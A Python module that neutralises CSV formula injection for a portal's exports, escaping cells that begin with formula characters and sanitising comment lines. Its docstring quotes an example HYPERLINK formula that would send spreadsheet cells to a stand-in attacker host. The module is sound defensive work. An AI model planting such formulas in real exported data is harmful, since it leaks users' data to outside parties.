"""Every CSV the portal writes goes through here, so no cell can run as a formula.

A spreadsheet opening a CSV reads a cell that begins with =, +, -, @, a tab or a carriage
return as a formula: a neighbourhood named =HYPERLINK("https://evil.example/?x="&A1,"Click")
would become a link that sends the sheet's cells away. Following OWASP's advice on CSV
injection, such a text cell is written with a single quote in front ('=HYPERLINK(...)),
which spreadsheets show as text. Numbers are left as numbers: a longitude of -0.065, as a
number or as a string that is plainly one, is not a formula and must stay a number.

The lines before a CSV's header (attribution, releases) begin with '#' and are written by
comment(): a spreadsheet splits them at their commas too, so a name in one
("# Profile of X,=HYPERLINK(...)") could otherwise start a cell of its own with a formula.
`make lint` refuses csv.writer and csv.DictWriter anywhere else (ruff's banned-api,
pyproject.toml).
"""

import csv
import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER_RE = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)")
# In a comment line, where a spreadsheet would begin a cell: after a comma and any spaces or
# double quotes that open it, a character a formula begins with.
FORMULA_AFTER_COMMA_RE = re.compile(r"(,[ \"]*)(?=[=+\-@\t\r])")


def safe_cell(value):
    """The value as a CSV cell: None as empty, text that could be read as a formula
    behind a single quote, anything else as it is."""
    if value is None:
        return ""
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_STARTS) and not PLAIN_NUMBER_RE.fullmatch(value):
        return "'" + value
    return value


class SafeWriter:
    """csv.writer, with every cell passed through safe_cell."""

    def __init__(self, out, **options):
        self._writer = csv.writer(out, **options)

    def writerow(self, row):
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(out, **options) -> SafeWriter:
    """The one way the portal writes a CSV (options as csv.writer takes them)."""
    return SafeWriter(out, **options)


def comment(out, text: str) -> None:
    """Write text as a comment line ("# text"), so that no cell a spreadsheet splits it into
    can run as a formula: a line break becomes a space (it would begin a line of its own) and
    a single quote goes before a formula's first character at the start of any later cell."""
    line = " ".join(str(text).splitlines())
    out.write("# " + FORMULA_AFTER_COMMA_RE.sub(r"\1'", line) + "\n")
